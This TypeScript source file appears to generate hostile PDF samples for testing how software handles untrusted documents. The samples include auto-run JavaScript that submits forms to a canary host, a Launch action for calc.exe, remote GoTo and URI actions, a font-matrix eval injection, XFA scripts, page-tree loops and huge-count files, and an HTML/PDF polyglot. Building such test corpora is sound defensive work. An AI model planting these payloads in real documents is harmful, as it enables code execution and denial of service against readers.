import { type Canary, payload, type SampleFile, text } from './sample-file.ts';

/** A PDF of numbered objects; its cross references are left to be found, as readers do with damaged ones. */
const pdf = (...objects: string[]): Buffer =>
  text(
    '%PDF-1.7',
    ...objects.map((content, i) => `${i + 1} 0 obj\n${content}\nendobj`),
    'trailer << /Root 1 0 R >>',
    '%%EOF',
  );
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (more = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] ${more} >>`;

/** PDFs with scripts, links, attachments and traps for readers. */
export function papers(canary: Canary): SampleFile[] {
  const run = payload(canary);
  const js = `app.alert('ran');this.submitForm('${canary}/form');${run}`.replace(/[()\\]/g, '\\$&');
  const catalog = (more = '') => `<< /Type /Catalog /Pages 2 0 R ${more} >>`;
  const made: [string, Buffer][] = [
    ['script', pdf(catalog(`/OpenAction << /S /JavaScript /JS (${js}) >>`), pages, page())],
    ['page-script', pdf(catalog(), pages, page(`/AA << /O << /S /JavaScript /JS (${js}) >> >>`))],
    [
      'named-script',
      pdf(catalog(`/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${js}) >>] >> >>`), pages, page()),
    ],
    ['launch', pdf(catalog('/OpenAction << /S /Launch /F (calc.exe) >>'), pages, page())],
    ['uri', pdf(catalog(`/OpenAction << /S /URI /URI (${canary}/uri) >>`), pages, page())],
    ['remote', pdf(catalog(`/OpenAction << /S /GoToR /F (${canary}/x.pdf) /D [0 /Fit] >>`), pages, page())],
    ['font-eval', pdf(catalog(), pages, page('/Resources << /Font << /F1 4 0 R >> >>'), fontWithCode(run))],
    [
      'xfa',
      pdf(
        catalog(`/AcroForm << /XFA 4 0 R /Fields [] >>`),
        pages,
        page(),
        stream(`<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>${run}</script></xdp:xdp>`),
      ),
    ],
    ['loop', pdf(catalog(), '<< /Type /Pages /Kids [2 0 R] /Count 999999999 >>')],
    ['many', pdf(catalog(), '<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>', page())],
    ['huge-page', pdf(catalog(), pages, page().replace('300 200', '99999999 99999999'))],
    [
      'self-form',
      pdf(
        catalog(),
        pages,
        page('/Resources << /XObject << /X 4 0 R >> >> /Contents 5 0 R'),
        stream('/X Do', '/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 4 0 R >> >>'),
        stream('/X Do'),
      ),
    ],
    ['cut', pdf(catalog(), pages, page()).subarray(0, 60)],
    ['nothing', text('%PDF-1.7')],
    ['plain', pdf(catalog(), pages, page('/Contents 4 0 R'), stream('0 0 1 rg 20 20 100 60 re f'))],
  ];
  const html = Buffer.concat([pdf(catalog(), pages, page()), text(`<script>${run}</script>`)]);
  return [
    ...made.map(([what, bytes]) => ({
      name: `paper-${what}.pdf`,
      claims: 'application/pdf',
      bytes,
      is: 'application/pdf',
    })),
    { name: 'paper-html.html', claims: 'text/html', bytes: html, is: 'application/pdf' },
  ];
}

const stream = (content: string, more = '') => `<< /Length ${content.length} ${more} >>\nstream\n${content}\nendstream`;

/** A font matrix that old readers handed to eval. */
const fontWithCode = (run: string) =>
  `<< /Type /Font /Subtype /Type1 /BaseFont /F /FontMatrix [1 0 0 1 0 (0\\); ${run.replace(/[()\\]/g, '\\$&')}//)] >>`;
